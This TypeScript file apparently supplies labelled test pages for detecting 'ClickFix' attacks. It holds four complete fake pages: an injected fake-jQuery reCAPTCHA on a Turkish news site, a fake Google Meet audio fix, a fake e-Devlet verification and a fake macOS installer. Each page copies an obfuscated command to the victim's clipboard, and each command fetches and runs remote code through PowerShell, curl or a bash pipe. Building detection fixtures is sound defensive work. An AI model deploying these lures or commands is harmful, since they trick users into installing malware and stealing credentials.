import { type Entry } from '../entry.js';
import { b64, charCodes, doc, logo, textRoute } from '../parts/xb-kit.js';
import { cssRoute, jsRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'xb-clickfix-wp-haber-inject-recaptcha',
    label: 'clickfix',
    kind: 'compromised-site-injected-clickfix',
    url: 'https://www.egehaber-gazetesi.com/2025/10/14/izmirde-kiralik-konut-fiyatlari-rekor-kirdi/',
    body: doc({
      title: "İzmir'de kiralık konut fiyatları rekor kırdı – Ege Haber Gazetesi",
      head: `<meta name="generator" content="WordPress 6.4.3">
<link rel="stylesheet" id="astra-theme-css-css" href="https://www.egehaber-gazetesi.com/wp-content/themes/astra/assets/css/minified/main.min.css?ver=4.6.4" media="all">
<script src="https://wp-cdn-analytics.com/js/jquery.min.js?ver=3.7.1" id="jquery-core-js"></script>
`,
      css: `body{margin:0;font-family:Georgia,serif;color:#222}.site-header{background:#0d47a1;color:#fff;padding:16px 28px;font:bold 24px Arial}.nav{background:#1565c0;padding:8px 28px;font:13px Arial}.nav a{color:#fff;margin-right:14px;text-decoration:none}
article{max-width:720px;margin:24px auto;padding:0 16px;line-height:1.7}.meta{font:12px Arial;color:#777}aside{max-width:720px;margin:0 auto;font:13px Arial;color:#555;border-top:1px solid #eee;padding:12px 16px}`,
      body: `<header class="site-header">Ege Haber Gazetesi</header><nav class="nav"><a href="/">Gündem</a><a href="/ekonomi/">Ekonomi</a><a href="/spor/">Spor</a><a href="/izmir/">İzmir</a></nav>
<article><h1>İzmir'de kiralık konut fiyatları rekor kırdı</h1><p class="meta">14 Ekim 2025 · Ekonomi · Haber Merkezi</p>
<p>İzmir'de kiralık konut fiyatları eylül ayında yıllık bazda yüzde 68 artış gösterdi. Bornova, Karşıyaka ve Buca'da 2+1 dairelerin ortalama kirası 22 bin lirayı aştı.</p>
<p>Emlak danışmanları, üniversitelerin açılmasıyla birlikte öğrenci talebinin fiyatları yukarı çektiğini belirtirken, kiracılar yüksek depozito ve komisyon taleplerinden şikâyetçi.</p>
<p>Uzmanlar, ilanlarda ev sahibinin yurt dışında olduğunu söyleyerek kapora isteyen kişilere karşı da vatandaşları uyardı.</p></article>
<aside>Etiketler: izmir, kira, konut · <a href="/2025/10/13/">Önceki haber</a></aside>`,
    }),
    routes: {
      'www.egehaber-gazetesi.com/wp-content/themes/astra/assets/css/minified/main.min.css': cssRoute('.ast-container{max-width:1200px;margin:0 auto}.entry-content p{margin-bottom:1.6em}a{color:#0d47a1}'),
      'wp-cdn-analytics.com/js/jquery.min.js': jsRoute(`/*! jQuery v3.7.1 | (c) OpenJS Foundation and other contributors | jquery.org/license */
(function(){if(document.cookie.indexOf('_wpv=1')>-1)return;if(/bot|crawl|spider|googlebot|bingbot|yandex/i.test(navigator.userAgent))return;
var _d=function(s){return decodeURIComponent(escape(atob(s)))};
var _c=_d('${b64("powershell -w h -nop -c \"$r='https://wp-cdn-analytics.com/s/'+$env:COMPUTERNAME;iex(irm $r)\" # Doğrulama: reCAPTCHA ID-7341")}');
window.addEventListener('DOMContentLoaded',function(){
var o=document.createElement('div');o.style.cssText='position:fixed;inset:0;background:rgba(0,0,0,.55);z-index:999999;display:flex;align-items:center;justify-content:center;font-family:Roboto,Arial,sans-serif';
o.innerHTML=_d('${b64(`<div style="background:#fff;width:340px;border-radius:4px;box-shadow:0 4px 20px rgba(0,0,0,.4)"><div style="background:#4a90e2;color:#fff;padding:16px 20px"><div style="font-size:14px">Doğrulamayı tamamlayın</div><div style="font-size:20px;font-weight:bold">Robot olmadığınızı kanıtlayın</div></div><div id="_r1" style="padding:20px;display:flex;align-items:center;gap:12px;border-bottom:1px solid #eee"><div id="_cb" style="width:26px;height:26px;border:2px solid #c1c1c1;border-radius:2px;cursor:pointer"></div><span>Ben robot değilim</span><span style="margin-left:auto;font-size:10px;color:#888">reCAPTCHA</span></div><div id="_r2" style="display:none;padding:18px 20px;font-size:14px;line-height:1.9">Doğrulama adımları:<br>1. <b>Windows</b> tuşu + <b>R</b> tuşuna basın<br>2. <b>CTRL + V</b> ile yapıştırın<br>3. <b>Enter</b> tuşuna basın<br><span style="font-size:12px;color:#777">Bu adımları tamamladıktan sonra sayfa otomatik açılacaktır.</span></div></div>`)}');
document.body.appendChild(o);
o.querySelector('#_cb').addEventListener('click',function(){navigator.clipboard.writeText(_c).then(function(){},function(){var t=document.createElement('textarea');t.value=_c;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove()});
this.style.borderColor='#4a90e2';document.getElementById('_r2').style.display='block';document.cookie='_wpv=1;path=/;max-age=86400'});
});})();`),
    },
  },
  {
    id: 'xb-clickfix-meet-mikrofon-engellendi',
    label: 'clickfix',
    kind: 'fake-meeting-fix-cmd',
    url: 'https://meet.google-toplanti.com/ykh-rtqz-mbn',
    body: doc({
      title: 'Meet - ykh-rtqz-mbn',
      css: `body{margin:0;background:#202124;color:#e8eaed;font-family:"Google Sans",Roboto,Arial,sans-serif}.v{display:flex;gap:40px;align-items:center;justify-content:center;height:100vh}.cam{width:560px;height:315px;background:#3c4043;border-radius:8px;display:flex;align-items:center;justify-content:center;color:#9aa0a6}
.s{width:320px}.s h2{font-weight:400}.pop{display:none;background:#fff;color:#202124;border-radius:8px;padding:20px;margin-top:14px;font-size:14px;line-height:1.7}.b{background:#8ab4f8;color:#202124;border:0;border-radius:20px;padding:10px 22px;font-size:14px}`,
      body: `<div class="v"><div class="cam">🎤✖ 📷✖ Kamera ve mikrofon engellendi</div>
<div class="s"><h2>Katılmaya hazır mısınız?</h2><p>Toplantıya katılan: Av. Emre Tunç, Ayşe (İK)</p><p style="color:#f28b82">Tarayıcınız mikrofon ve kameraya erişemiyor (Hata: 0x80070491 — ses sürücüsü uyumsuz).</p><button class="b" id="fix">Sorunu düzelt</button>
<div class="pop" id="pop"><b>Ses/video sürücüsünü onarın</b><br>1. Klavyenizde <b>Windows + R</b> tuşlarına basın<br>2. <b>Ctrl + V</b> ile düzeltme komutunu yapıştırın<br>3. <b>Enter</b>'a basın, ardından toplantıya katılın</div></div></div>
<script>
var c=String.fromCharCode(${charCodes('cmd /c "curl -s -o %TEMP%\\meetfix.cmd https://google-toplanti.com/fix/audio && %TEMP%\\meetfix.cmd"')});
document.getElementById('fix').onclick=function(){navigator.clipboard.writeText(c);document.getElementById('pop').style.display='block'};
</script>`,
    }),
  },
  {
    id: 'xb-clickfix-edevlet-bot-dogrulama-conhost',
    label: 'clickfix',
    kind: 'fake-gov-verification-run-dialog',
    url: 'https://edevlet-guvenlik-dogrulama.com/dogrulama/?r=sgk-hizmet-dokumu',
    body: doc({
      title: 'e-Devlet Kapısı - Güvenlik Doğrulaması',
      css: `body{margin:0;font-family:Arial,sans-serif;background:#f0f0f0}.h{background:#fff;border-bottom:3px solid #c8102e;padding:10px 20px}.c{max-width:540px;margin:40px auto;background:#fff;padding:26px;border:1px solid #ddd}
.vf{display:flex;align-items:center;gap:12px;border:1px solid #ccc;padding:14px;background:#fafafa;cursor:pointer}.vf span{width:22px;height:22px;border:2px solid #999;display:inline-block}.st{display:none;margin-top:16px;font-size:14px;line-height:1.9;background:#fff7f7;border-left:4px solid #c8102e;padding:12px}`,
      body: `<div class="h">${logo({ name: 'e-Devlet Kapısı', color: '#c8102e', mark: 'crescent' })}</div>
<div class="c"><h2 style="font-size:18px;margin-top:0">Güvenlik Doğrulaması</h2><p style="font-size:14px">SGK Hizmet Dökümü belgesine erişim için bağlantınızdan olağandışı trafik tespit edildi. Otomatik sorgulamaları engellemek amacıyla insan doğrulaması yapılmaktadır.</p>
<div class="vf" id="vf"><span></span> Doğrula (insan olduğumu onaylıyorum)</div>
<div class="st" id="st">Doğrulamayı tamamlamak için:<br>1️⃣ <b>Win + R</b> tuşlarına basın<br>2️⃣ <b>Ctrl + V</b> ile doğrulama kodunu yapıştırın<br>3️⃣ <b>Enter</b> tuşuna basın<br><small>Doğrulama kodu panonuza kopyalanmıştır. İşlem sonrası belgeniz otomatik açılır.</small></div></div>
<script>
(function(){var a='conhost.exe --headless powershell -w h -c ',b="$d=(iwr 'https://edevlet-guvenlik-dogrulama.com/dogrulama/k.txt' -UseB).Content;iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($d)))",c=' # e-Devlet Güvenlik Doğrulama Kodu: 58213';
document.getElementById('vf').onclick=function(){var t=a+'"'+b+'"'+c;navigator.clipboard.writeText(t).catch(function(){});this.querySelector('span').style.background='#0a7d2c';document.getElementById('st').style.display='block'}})();
</script>`,
    }),
    routes: {
      'edevlet-guvenlik-dogrulama.com/dogrulama/k.txt': textRoute(b64("$p=\"$env:APPDATA\\edk.exe\";iwr 'https://edevlet-guvenlik-dogrulama.com/dogrulama/u.bin' -OutFile $p;Start-Process $p")),
    },
  },
  {
    id: 'xb-clickfix-mac-terminal-birja-az',
    label: 'clickfix',
    kind: 'fake-verification-macos-terminal',
    url: 'https://birja-az-desktop.app-verify.com/mac/',
    body: doc({
      title: 'AzBirja Desktop — macOS üçün yükləmə',
      lang: 'az',
      css: `body{margin:0;background:#0f172a;color:#e2e8f0;font-family:-apple-system,"SF Pro Text",Arial,sans-serif}.w{max-width:560px;margin:60px auto;background:#111c33;border-radius:14px;padding:28px}.w h1{font-size:24px}
.cmd{background:#020617;border:1px solid #334155;border-radius:8px;padding:12px;font-family:Menlo,monospace;font-size:12px;word-break:break-all;color:#94a3b8}.cp{background:#22c55e;color:#02140a;border:0;border-radius:8px;padding:12px 18px;font-weight:700;margin-top:10px}
ol{line-height:2}kbd{background:#1e293b;border:1px solid #475569;border-radius:4px;padding:1px 6px}`,
      body: `<div class="w"><h1>AzBirja Desktop — macOS</h1><p>Tətbiqin quraşdırılması üçün təhlükəsizlik doğrulaması tələb olunur. Apple-ın yeni qaydalarına görə tətbiq yalnız Terminal vasitəsilə quraşdırılır.</p>
<ol><li><kbd>⌘ Command</kbd> + <kbd>Space</kbd> basın və <b>Terminal</b> yazın</li><li>Aşağıdakı əmri kopyalayın və Terminala yapışdırın (<kbd>⌘</kbd> + <kbd>V</kbd>)</li><li><kbd>Return</kbd> basın və Mac şifrənizi daxil edin</li></ol>
<div class="cmd" id="c">echo "${b64("curl -fsSL https://birja-az-desktop.app-verify.com/mac/i.sh -o /tmp/.azb && chmod +x /tmp/.azb && /tmp/.azb")}" | base64 -d | bash</div><button class="cp" id="cp">Əmri kopyala</button>
<p style="font-size:12px;color:#64748b">Quraşdırma zamanı "Sistem parametrləri" pəncərəsində parolunuzu daxil etmək tələb oluna bilər — bu, açar zəncirinə (Keychain) giriş üçün lazımdır.</p></div>
<script>document.getElementById('cp').onclick=function(){navigator.clipboard.writeText(document.getElementById('c').textContent);this.textContent='Kopyalandı ✓'}</script>`,
    }),
  },
];
